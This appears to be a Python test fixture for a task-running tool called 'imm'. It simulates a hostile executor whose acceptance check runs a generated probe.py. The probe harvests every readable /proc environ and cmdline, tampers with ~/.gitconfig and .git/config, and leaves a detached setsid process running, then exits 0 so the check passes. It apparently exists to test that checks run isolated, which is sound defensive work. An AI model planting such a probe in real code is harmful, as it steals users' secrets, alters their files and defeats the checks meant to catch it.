"""An executor whose lane writes a check that attacks imm from where checks run (issue 20).

For every task it writes `<task>.txt`; for task `spy` also `probe.py`, which that task's
acceptance check runs (`python3 probe.py`) in the lane and again at integration. Each run of the
probe, from the tree under test:
- reads every `/proc/*/environ` and `/proc/*/cmdline` it can into `<out>/collected-<uid>-<pid>`
  and names the processes it could read in `<out>/read-<uid>-<pid>` (JSON);
- tries to append a line to every file `<out>/attack.json` lists under `targets` (the user's
  `~/.gitconfig`, the repository's `.git/config`, ...) and records which it could;
- leaves a `setsid` sleeper behind, `left-by-<out>` in its command line (and a file in
  `<out>/left-<uid>-<pid>`);
- exits 0: the check passes and the lane lands.
`<out>` is `$IMM_TEST_DIR` as the executor saw it (checks get no such variable: it is written
into the probe).
"""

from __future__ import annotations

import os
import sys
from pathlib import Path

PROBE = """\
import glob, json, os, subprocess, sys
OUT = {out!r}
me = f"{{os.getuid()}}-{{os.getpid()}}-{{os.urandom(4).hex()}}"  # pids repeat in namespaces


def out(kind):  # files straight in OUT, open to every user; folders a root run made are not
    return os.path.join(OUT, f"{{kind}}-{{me}}")


collected, readable = [], []
for name in os.listdir("/proc"):
    if not name.isdigit():
        continue
    for part in ("environ", "cmdline"):
        try:
            with open(f"/proc/{{name}}/{{part}}", "rb") as handle:
                collected.append(handle.read())
            readable.append([int(name), part])
        except OSError:
            pass
with open(out("collected"), "wb") as handle:
    handle.write(b"\\n".join(collected))
with open(out("read"), "w") as handle:
    json.dump({{"uid": os.getuid(), "readable": readable}}, handle)
tried = {{}}
with open(os.path.join(OUT, "attack.json")) as handle:
    targets = json.load(handle).get("targets", [])
for target in targets:  # {{"path" or "glob": ..., "line": ... with {{uid}}}}
    paths = [target["path"]] if "path" in target else glob.glob(target["glob"], recursive=True)
    for path in paths:
        try:  # a line of its own, and no empty one (act refuses those in $GITHUB_ENV)
            with open(path, "a+b") as handle:
                ends = handle.seek(0, 2) == 0 or (handle.seek(-1, 2) and handle.read(1) == b"\\n")
                line = target["line"].replace("{{uid}}", str(os.getuid()))
                handle.write(("" if ends else "\\n").encode() + line.encode() + b"\\n")
            tried[path] = "wrote"
        except OSError as error:
            tried[path] = type(error).__name__
with open(out("tried"), "w") as handle:
    json.dump(tried, handle)
# named by its command line: a pid inside a PID namespace means nothing outside it
sleeper = subprocess.Popen(
    ["setsid", sys.executable, "-c", "import time; time.sleep(600)", "left-by-" + OUT],
    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
)
with open(out("left"), "w") as handle:
    handle.write(str(sleeper.pid))
"""


def main() -> int:
    task = os.environ["IMM_TASK_ID"]
    Path(f"{task}.txt").write_text(f"{task}\n")
    if task == "spy":
        Path("probe.py").write_text(PROBE.format(out=os.environ["IMM_TEST_DIR"]))
    return 0


if __name__ == "__main__":
    sys.exit(main())
